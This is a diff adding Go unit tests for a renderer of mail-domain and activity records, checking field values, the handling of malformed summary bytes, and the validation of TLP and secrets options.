+	doc := decode(t, r.AppendTarget(nil, headOf(someone), "mail.acme.co.uk", s))
+	for name, want := range map[string]any{
+		"domain": "mail.acme.co.uk", "registrable_domain": "acme.co.uk", "count": 1.0, "rcpt_accepted_count": 1.0, "rcpt_denied_count": 1.0, "message_count": 1.0, "ip": "185.220.101.4",
+	} {
+		if got := at(doc, name); got != want {
+			t.Errorf("%s is %v, want %v", name, got, want)
+		}
+	}
+	if got := at(decode(t, r.AppendTarget(nil, headOf(someone), "co.uk", s)), "registrable_domain"); got != nil {
+		t.Errorf("co.uk belongs to %v", got)
+	}
+}
+
+func TestSummaryOfAnotherVersion(t *testing.T) {
+	r := renderer(t, Options{})
+	for _, v := range []string{"", "\xff", "\x91\x01", strings.Repeat("\x99", 20)} {
+		s := new(state.Activity)
+		s.Summary = law.Latest{Time: 1, Value: v}
+		doc := decode(t, r.AppendActivity(nil, headOf(someone), morning.Hour(), s))
+		if at(doc, "risk.score") != nil || at(doc, "source.ip") != "185.220.101.4" {
+			t.Errorf("%q: %v", v, doc)
+		}
+	}
+}
+
+func TestOptions(t *testing.T) {
+	for name, o := range map[string]Options{"tlp": {TLP: "PURPLE"}, "secrets": {Secrets: 9}} {
+		if _, err := New(o); err == nil {
+			t.Errorf("%s: accepted", name)
+		}
+	}
+	if r := renderer(t, Options{TLP: "amber+strict"}); r.o.TLP != "AMBER+STRICT" {
+		t.Errorf("tlp is %s", r.o.TLP)
 	}
 }
